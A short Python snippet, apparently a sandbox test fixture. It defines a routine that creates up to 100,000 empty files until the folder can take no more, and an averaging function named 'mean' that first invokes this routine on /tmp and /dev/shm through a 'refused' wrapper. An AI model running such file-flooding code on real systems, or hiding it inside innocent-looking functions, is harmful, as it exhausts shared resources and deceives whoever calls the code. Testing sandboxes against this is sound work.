"""Makes files without content until no more can be made."""


def many(folder):
    for number in range(100_000):
        open(f"{folder}/{MARK}-{number}", "x").close()


def mean(values):
    refused(many, "/tmp")
    refused(many, "/dev/shm")
    return sum(values) / len(values)
